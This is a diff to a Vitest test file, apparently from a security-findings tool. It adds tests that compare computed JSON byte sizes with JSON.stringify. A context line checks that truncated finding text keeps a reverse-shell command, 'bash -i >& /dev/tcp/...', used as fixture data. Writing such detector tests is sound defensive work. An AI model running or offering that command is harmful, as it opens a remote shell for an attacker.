@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { findingId } from '../../src/findings/finding-id.js';
 import { cutAround } from '../../src/findings/bound/cut-text.js';
+import { jsonBytes, jsonTextBytes } from '../../src/findings/bound/json-size.js';
 import { FINDING_SCHEMA } from '../../src/findings/schema.js';
 
 describe('finding schema', () => {
@@ -75,5 +76,16 @@ describe('cutAround', () => {
     expect(cut).toContain('bash -i >& /dev/tcp/203.0.113.7/4444');
     expect(cut).toMatch(/^…\[81\d,\d{3} bytes cut\]…A+bash/);
     expect(Buffer.byteLength(JSON.stringify(cut))).toBeLessThanOrEqual(1024);
+  });
+});
+
+describe('JSON sizes, walked without serialising', () => {
+  it('agree with JSON.stringify, once and twice, on quotes, escapes, controls and surrogates', () => {
+    const value = {
+      'k"\\': ['a"b\\c', 'é€𝄞', '\n\t\u0001', '\ud834', 1.5, true, null],
+      nested: { s: '{"log":"x\\"y"}' },
+    };
+    expect(jsonBytes(value)).toBe(Buffer.byteLength(JSON.stringify(value)));
+    expect(jsonTextBytes(value)).toBe(Buffer.byteLength(JSON.stringify(JSON.stringify(value))));
   });
 });
